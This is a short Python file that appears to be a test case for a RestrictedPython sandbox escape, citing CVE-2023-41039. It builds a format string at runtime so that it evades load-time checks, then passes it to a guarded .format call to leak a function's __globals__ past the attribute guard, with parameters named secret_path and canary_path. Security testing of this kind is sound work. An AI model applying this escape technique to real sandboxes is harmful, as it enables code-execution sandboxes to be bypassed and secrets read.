# mypy: ignore-errors
# Technique: the same nested-spec field built at runtime (so no constant is visible to the
# load-time check) and passed to the guarded `.format`.
# Advisory: CVE-2023-41039 / GHSA-xjw2-6jm9-rf67 (RestrictedPython: format/format_map reach
# attributes the attribute guard refuses)
from suaveplan import fs


class Sink:
    def __format__(self, spec):
        print(spec[:400])
        return "x"


def attack(secret_path, canary_path):
    template = "{0:{1." + "__glo" + "bals__" + "}}"
    return template.format(Sink(), fs.read_text)
